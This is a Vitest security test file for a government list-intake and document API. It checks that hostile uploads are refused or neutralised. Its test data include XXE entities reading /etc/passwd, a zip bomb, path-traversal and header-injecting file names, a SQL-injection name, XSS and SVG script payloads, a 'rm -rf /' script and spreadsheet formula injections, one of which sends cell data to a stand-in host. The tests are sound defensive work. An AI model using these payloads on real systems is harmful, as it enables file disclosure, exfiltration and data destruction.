import { readdir } from 'node:fs/promises'
import { strToU8, zipSync } from 'fflate'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { makeWorkbook } from '../fixtures/make-workbook.ts'
import { asOwner, stateOf } from './effects.ts'
import { partsOf } from './workbook.ts'
import { countRequests, createTestWorld, expectRefused, expectSilent, type World } from './world.ts'

// Files as weapons: what is no list or no document, what unpacks without end, what a program would run, and names that lead
// elsewhere. What is refused leaves no batch and no bytes; what is taken is text.

let world: World
beforeAll(async () => {
  world = await createTestWorld()
})
afterAll(() => world.drop())
countRequests()

const query = (name = 'daftar.csv') =>
  new URLSearchParams({ agency: 'dinsos', list: 'ppks', period: '2026-10-20', name })
const handIn = (bytes: Uint8Array | string, name?: string) =>
  world.send(
    'operator-dinsos',
    'POST',
    `/api/intake/batches?${query(name)}`,
    typeof bytes === 'string' ? strToU8(bytes) : bytes,
  )

const entity = (body: string) =>
  makeWorkbook(
    [
      {
        name: 'A',
        rows: [
          ['Nama', 'Jenis PPKS'],
          ['X', 'Pemulung'],
        ],
      },
    ],
    {
      'xl/sharedStrings.xml': `<?xml version="1.0"?><!DOCTYPE sst [${body}]><sst><si><t>&jahat;</t></si></sst>`,
    },
  )
const refusedFiles: readonly (readonly [string, () => Uint8Array | string])[] = [
  ['a PDF', () => '%PDF-1.7\n1 0 obj'],
  ['a program', () => new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0, 0, 0])],
  ['a Windows program', () => new Uint8Array([0x4d, 0x5a, 0x90, 0, 3, 0, 0, 0])],
  ['a picture', () => new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0])],
  ['an archive that is no workbook', () => zipSync({ 'a.txt': strToU8('x') })],
  [
    'an old workbook with macros',
    () => new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, ...Array(512).fill(0)]),
  ],
  ['nothing', () => ''],
  ['half a workbook', () => makeWorkbook([{ name: 'A', rows: [['Nama']] }]).slice(0, 300)],
]
test.each(refusedFiles)('%s is handed in as a list', async (_what, make) => {
  const before = await stateOf(world.context)
  const answer = await handIn(make())
  await world.drain()
  const batches = await asOwner<{ status: string }>(
    world.context,
    'select status from intake.batch where id > 4 order by id',
  )
  expect(batches.filter(({ status }) => status !== 'refused')).toEqual([])
  expect(answer.status === 201 || answer.status >= 400).toBe(true)
  expect(answer.status).toBeLessThan(500)
  const after = await stateOf(world.context)
  expect(after['intake.record']).toBe(before['intake.record'])
  expectSilent(world.log.join())
})

const bomb = () =>
  zipSync(
    { 'xl/workbook.xml': strToU8('<workbook/>'), 'xl/worksheets/sheet1.xml': new Uint8Array(60_000_000) },
    { level: 9 },
  )
const weapons: readonly (readonly [string, () => Uint8Array])[] = [
  ['an entity that reads a file', () => entity('<!ENTITY jahat SYSTEM "file:///etc/passwd">')],
  ['an entity that asks another server', () => entity('<!ENTITY jahat SYSTEM "http://127.0.0.1:9/jahat">')],
  [
    'entities that grow without end',
    () => entity('<!ENTITY a "jahat"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY jahat "&b;&b;&b;&b;">'),
  ],
  [
    'parts outside of their folder',
    () => makeWorkbook([{ name: 'A', rows: [['Nama', 'Jenis PPKS']] }], { '../../jahat.xml': 'jahat' }),
  ],
  [
    'a sheet that lies elsewhere',
    () =>
      makeWorkbook([{ name: 'A', rows: [['Nama']] }], {
        'xl/_rels/workbook.xml.rels':
          '<Relationships><Relationship Id="rId1" Target="file:///etc/passwd" TargetMode="External"/></Relationships>',
      }),
  ],
  ['sixty megabytes of nothing', bomb],
]
test.each(weapons)('a workbook with %s enters', async (_what, make) => {
  const answer = await handIn(make(), 'daftar.xlsx')
  await world.drain()
  expect(answer.status).toBeLessThan(500)
  const rows = await asOwner<{ cells: string }>(
    world.context,
    'select cells::text from intake.record r join intake.batch b on b.id = r.batch_id where b.id > 4',
  )
  expect(rows.filter(({ cells }) => /jahatjahat|root:/.test(cells))).toEqual([])
  expect(await readdir('.')).not.toContain('jahat.xml')
  expect(world.log.filter((line) => line.includes('root:'))).toEqual([])
})

const names = [
  '../../../etc/cron.d/jahat.csv',
  '..\\..\\windows\\jahat.csv',
  '/etc/jahat.csv',
  'C:\\jahat.csv',
  'jahat\r\nset-cookie: jahat=1.csv',
  'jahat".csv; filename="lain.exe',
  "jahat';drop table intake.batch;--.csv",
  '\u202evsc.jahat.exe',
  '<img src=x onerror=alert(1)>jahat.csv',
  '.jahat',
  '....//....//jahat',
  'jahat%00.csv',
  'CON',
  'j'.repeat(300),
] as const
test.each(names)(
  'a list is handed in under the name %j and comes back under a harmless one',
  async (name) => {
    const made = await handIn(`Nama;Jenis PPKS\nUJI ${names.indexOf(name as never)};Pemulung`, name)
    expect(made.status).toBe(201)
    await world.drain()
    const { batchId } = JSON.parse(made.body) as { batchId: number }
    const [kept] = await asOwner<{ name: string; sha: string }>(
      world.context,
      `select file_name as name, sha256 as sha from intake.batch where id = ${batchId}`,
    )
    expect(kept!.name).not.toMatch(/[/\\\p{Cc}\p{Cf}]/u)
    expect(kept!.sha).toMatch(/^[0-9a-f]{64}$/)
    const workbook = await world.send('operator-dinsos', 'GET', `/api/intake/batches/${batchId}/workbook`)
    expect(workbook.status).toBe(200)
    expect(workbook.headers.get('set-cookie')).toBeNull()
    expect(workbook.headers.get('content-disposition')).toMatch(
      /^attachment; filename="[\w .-]*"; filename\*=UTF-8''[\w.~!*'()%-]*$/,
    )
  },
)

const formulas = [
  '=1+1',
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("http://jahat.example?x="&A1,"klik")',
  '=IMPORTXML("http://jahat.example","//a")',
  '=WEBSERVICE("http://jahat.example")',
  '+1+cmd|x',
  '-2+3+cmd|x',
  '@SUM(1+1)',
  '\t=1+1',
  '＝1+1',
  '<f>1+1</f>',
  ']]><f>1+1</f><![CDATA[',
  '&lt;f&gt;1&lt;/f&gt;',
  '_x003D_1+1',
]
test.each(formulas)('a cell %j comes back in the returned workbook as text', async (cell) => {
  const quoted = `"${cell.replaceAll('"', '""')}"`
  const made = await handIn(
    `Nama;Jenis PPKS;Alamat\nUJI RUMUS ${cell.length};Pemulung;${quoted}\n${quoted};Bukan jenis;x\n`,
  )
  await world.drain()
  const { batchId } = JSON.parse(made.body) as { batchId: number }
  const parts = partsOf(await world.send('operator-dinsos', 'GET', `/api/intake/batches/${batchId}/workbook`))
  const sheets = Object.entries(parts).filter(([name]) => name.startsWith('xl/worksheets/'))
  expect(sheets.length).toBeGreaterThan(0)
  for (const [, xml] of sheets) {
    expect(xml).not.toMatch(/<f[ >]/)
    const types = [...xml.matchAll(/<c [^>]*t="(\w+)"/g)].map(([, type]) => type)
    expect(types.filter((type) => !['inlineStr', 's'].includes(type!))).toEqual([])
  }
  expect(Object.keys(parts).filter((name) => /externalLink|vba|connections|embeddings/.test(name))).toEqual(
    [],
  )
})

const documents: readonly (readonly [string, string | Uint8Array])[] = [
  ['a page', '<!doctype html><script>alert(1)</script>'],
  ['a drawing with a script', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'],
  ['a page behind the name of a PDF', ' %PDF-1.7<script>alert(1)</script>'],
  ['a script', '#!/bin/sh\nrm -rf /'],
  ['a workbook', makeWorkbook([{ name: 'A', rows: [['Nama']] }])],
  ['nothing', new Uint8Array()],
  ['one letter', 'x'],
  ['half the sign of a picture', new Uint8Array([0x89, 0x50])],
  ['XML', '<?xml version="1.0"?><a/>'],
  ['an archive', zipSync({ 'a.pdf': strToU8('%PDF-1.7') })],
]
test.each(
  documents.flatMap(([what, bytes]) => [
    [what, '/api/programmes/documents', bytes] as const,
    [what, '/api/planning/documents', bytes] as const,
  ]),
)('%s is kept as a document (%s)', async (_what, path, bytes) => {
  const before = await stateOf(world.context)
  expectRefused(
    await world.send('bappeda', 'POST', path, typeof bytes === 'string' ? strToU8(bytes) : bytes),
    415,
    422,
  )
  expect(await stateOf(world.context)).toEqual(before)
})

test('a page that begins as a picture is kept and never shown as a page', async () => {
  const bytes = Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    Buffer.from('<script>alert(1)</script>'),
  ])
  const kept = JSON.parse((await world.send('bappeda', 'POST', '/api/programmes/documents', bytes)).body) as {
    sha256: string
  }
  const promise = world.context.pack.term.promises[0]!.id
  const evidence = { title: 'Bukti uji', happenedOn: '2026-10-01', source: 'uji', sha256: kept.sha256 }
  const { id } = JSON.parse(
    (await world.send('bappeda', 'POST', `/api/programmes/promises/${promise}/evidence`, evidence)).body,
  ) as { id: number }
  const { headers } = await world.send(
    'bappeda',
    'GET',
    `/api/programmes/promises/${promise}/evidence/${id}/document`,
  )
  expect(headers.get('content-type')).toBe('image/png')
  expect(headers.get('content-disposition')).toMatch(/^attachment;/)
  expect(headers.get('x-content-type-options')).toBe('nosniff')
  expect(headers.get('content-security-policy')).toContain("default-src 'none'")
})

test.each([
  ['a hash of another form', 'ABC'],
  ['a path', '../../etc/passwd'],
  ['a hash nobody kept', 'f'.repeat(64)],
  ['the hash of a list of people', 'list'],
] as const)('evidence refers to %s to get at its bytes', async (_what, sha256) => {
  const [file] = await asOwner<{ sha256: string }>(
    world.context,
    'select sha256 from intake.batch order by id limit 1',
  )
  const promise = world.context.pack.term.promises[0]!.id
  const body = {
    title: 'Bukti uji',
    happenedOn: '2026-10-01',
    source: 'uji',
    sha256: sha256 === 'list' ? file!.sha256 : sha256,
  }
  const before = await stateOf(world.context)
  expectRefused(
    await world.send('bappeda', 'POST', `/api/programmes/promises/${promise}/evidence`, body),
    422,
  )
  expect(await stateOf(world.context)).toEqual(before)
})
